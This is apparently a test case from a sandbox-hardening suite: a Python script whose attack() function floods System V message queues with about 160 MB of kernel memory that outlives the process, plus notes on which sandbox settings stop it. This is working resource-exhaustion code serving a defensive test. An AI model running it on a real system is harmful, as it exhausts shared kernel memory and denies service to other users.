"""Fills message queues with 160 MB, which belong to no process and outlive it.

stopped_by: System V queues are limited
plain bwrap: succeeds
how: executed
"""

import ctypes

from tools import libc


def attack():
    message = ctypes.create_string_buffer(b"\1" + bytes(7) + bytes(8000))
    held = 0
    for _ in range(10_000):
        queue = libc.msgget(0, 0o1600)
        if queue < 0:
            break
        while libc.msgsnd(queue, message, ctypes.c_size_t(8000), 0o4000) == 0:
            held += 8000
    return float(held > 128 << 20)
